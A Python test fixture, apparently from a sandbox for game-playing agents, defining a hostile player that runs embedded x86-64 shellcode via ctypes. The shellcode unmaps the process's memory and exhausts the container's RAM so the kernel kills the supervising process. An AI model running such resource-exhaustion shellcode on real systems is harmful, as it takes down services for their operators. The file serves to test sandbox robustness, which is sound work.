"""Unmaps nearly all of itself and fills the container with pages that count for nobody.

The kernel would then end the largest process, the supervisor: a failure of ours, and a new game.

Verdict: timeout
"""

import ctypes
import mmap
import os
import time

from hostile import Hostile

STARVE = bytes.fromhex(
    "4989fcb80b000000bf000001004c89e64881ee000001000f05498dbc240010000048be00f0ffffff7f00004829"
    "feb80b0000000f05b80900000031ffbe00004000ba0300000041ba2100000049c7c0ffffffff4531c90f05483d"
    "00f0ffff772d4989c5498d9d00004000c600014805001000004839d872f2498dbd00100000be00f03f00b80b00"
    "00000f05eba8b8180000000f05ebf7"
)
"""munmap all below and above this page; then mmap 4 MiB, shared and anonymous, touch every page of
them, munmap all but one, again and again; once that is refused, sched_yield for ever."""
RSEQ, RSEQ_BYTES, UNREGISTER, SIGNATURE = 334, 32, 1, 0x53053053


class StarvesItsSupervisor(Hostile):
    def attack(self, observation):
        while os.uname().machine != "x86_64":  # the code is for no other: end in the same way
            time.process_time()
        libc = ctypes.CDLL(None, use_errno=True)
        forget_restartable_sequences(libc)
        code = mmap.mmap(
            -1, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        )
        code.write(STARVE)
        start = ctypes.addressof(ctypes.c_char.from_buffer(code))
        ctypes.CFUNCTYPE(None, ctypes.c_void_p)(start)(start)


def forget_restartable_sequences(libc):
    """The kernel writes to their place, which will be gone."""
    offset = ctypes.c_ssize_t.in_dll(libc, "__rseq_offset").value
    libc.pthread_self.restype = ctypes.c_void_p
    place = ctypes.c_void_p(libc.pthread_self() + offset)
    libc.syscall(RSEQ, place, RSEQ_BYTES, UNREGISTER, SIGNATURE)
